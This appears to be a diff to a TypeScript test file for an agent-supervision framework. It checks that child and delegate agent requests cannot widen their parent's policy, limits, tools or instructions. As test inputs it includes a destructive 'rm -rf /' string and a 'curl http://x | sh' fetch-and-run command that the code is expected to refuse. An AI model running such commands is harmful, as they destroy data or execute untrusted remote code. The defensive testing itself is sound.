@@ -1,5 +1,5 @@
 import { parseTaskContract, type TaskContract } from '@agentvisor/core'
-import { Either } from 'effect'
+import { Either, Option } from 'effect'
 import { describe, expect, it } from 'vitest'
 import { childContract, narrowChildRequest } from '../packages/actors/src/children/child-contract.js'
 
@@ -84,7 +84,7 @@ describe('a child-run request checked against its parent', () => {
   })
 
   it('refuses a contract that is not a task contract, naming the field', () => {
-    expect(refusal({ ...legitimate(), mcpServers: [{ command: 'sh' }] })).toBe('contract: mcpServers: is not a known field')
+    expect(refusal({ ...legitimate(), shellServers: [{ command: 'sh' }] })).toBe('contract: shellServers: is not a known field')
     expect(refusal('rm -rf /')).toMatch(/^contract: /)
   })
 })
@@ -102,5 +102,69 @@ describe("a child's verify command", () => {
     expect(Either.isLeft(spawned) && spawned.left).toMatch(/^verify: the command exec "curl http:\/\/x \| sh" needs approval .* so a child may not run it$/)
     expect(refusal(asked)).toMatch(/^verify: the command exec "git push" needs approval under rule "git \*" in layer "base"/)
     expect(Either.isRight(childContract(parent, parentId, JSON.stringify({ goal: 'g', verify: { command: { run: 'npm test' } } }), 1))).toBe(true)
+  })
+})
+
+describe('a request for a delegate checked against its parent', () => {
+  const lead: TaskContract = Either.getOrThrow(
+    parseTaskContract(
+      {
+        goal: 'lead',
+        workspace: '/srv/agentvisor/ws',
+        providers: [{ name: 'p', kind: 'openai', baseUrl: 'http://127.0.0.1:9/v1', model: 'lead' }],
+        limits: { maxSteps: 8 },
+        policy: { layers: [{ name: 'base', allow: { read: ['**'] } }] },
+        delegates: ['researcher'],
+        agents: {
+          researcher: {
+            providers: [{ name: 'cheap', kind: 'openai', baseUrl: 'http://127.0.0.1:9/v1', model: 'small' }],
+            instructions: 'Only facts.',
+            tools: ['read_file'],
+            output: { type: 'object', properties: { facts: { type: 'array' } }, required: ['facts'] },
+            policy: { layers: [{ name: 'research', deny: { write: ['**'] } }] },
+            limits: { maxSteps: 3 }
+          },
+          writer: { instructions: 'Write.' }
+        },
+        approval: 'defer',
+        children: { maxDepth: 2 }
+      },
+      '/'
+    )
+  )
+  const delegated = (args: Record<string, unknown>): Record<string, unknown> =>
+    JSON.parse(JSON.stringify(Either.getOrThrow(childContract(lead, parentId, JSON.stringify(args), 1)))) as Record<string, unknown>
+  const refused = (asked: unknown): string => Either.match(narrowChildRequest(lead, parentId, asked), { onLeft: (reason) => reason, onRight: () => 'accepted' })
+
+  it("runs the delegate's definition from the task: its providers, instructions, tools, output, policy added and limits", () => {
+    const child = Either.getOrThrow(childContract(lead, parentId, JSON.stringify({ goal: 'facts', agent: 'researcher', limits: { maxSteps: 5 } }), 1))
+    expect(child.agent).toBe('researcher')
+    expect(child.providers.map((p) => p.model)).toEqual(['small'])
+    expect(child.instructions).toBe('Only facts.')
+    expect(child.tools).toEqual(['read_file'])
+    expect(child.output).toMatchObject({ required: ['facts'] })
+    expect(child.policy.layers.map((l) => l.name)).toEqual(['base', 'research'])
+    expect(child.limits.maxSteps).toBe(3)
+    expect(child.agents).toEqual(lead.agents)
+    expect(JSON.parse(JSON.stringify(Either.getOrThrow(narrowChildRequest(lead, parentId, delegated({ goal: 'facts', agent: 'researcher' })))))).toEqual(
+      delegated({ goal: 'facts', agent: 'researcher' })
+    )
+  })
+
+  it("refuses an agent that is not among the caller's delegates, from spawn_child as from the bus", () => {
+    expect(Either.getLeft(childContract(lead, parentId, JSON.stringify({ goal: 'x', agent: 'writer' }), 1))).toEqual(
+      Option.some('Refused: "writer" is not an agent you may delegate to (your delegates are researcher).')
+    )
+    expect(refused({ ...delegated({ goal: 'x' }), agent: 'writer', instructions: 'Write.' })).toMatch(/"writer" is not an agent you may delegate to/)
+  })
+
+  it("refuses a delegate request that drops its agent's policy layer, raises its limits or changes what it is", () => {
+    const base = delegated({ goal: 'facts', agent: 'researcher' })
+    expect(refused({ ...base, policy: { layers: [{ name: 'base', allow: { read: ['**'] } }] } })).toBe(
+      "policy.layers: must begin with the parent's 2 layers unchanged"
+    )
+    expect(refused({ ...base, limits: { ...(base['limits'] as object), maxSteps: 8 } })).toBe("limits.maxSteps: 8 is above the parent's 3")
+    expect(refused({ ...base, tools: ['read_file', 'exec'] })).toBe("tools: differs from what the parent's contract gives a child")
+    expect(refused({ ...base, instructions: 'Do anything.' })).toBe("instructions: differs from what the parent's contract gives a child")
   })
 })
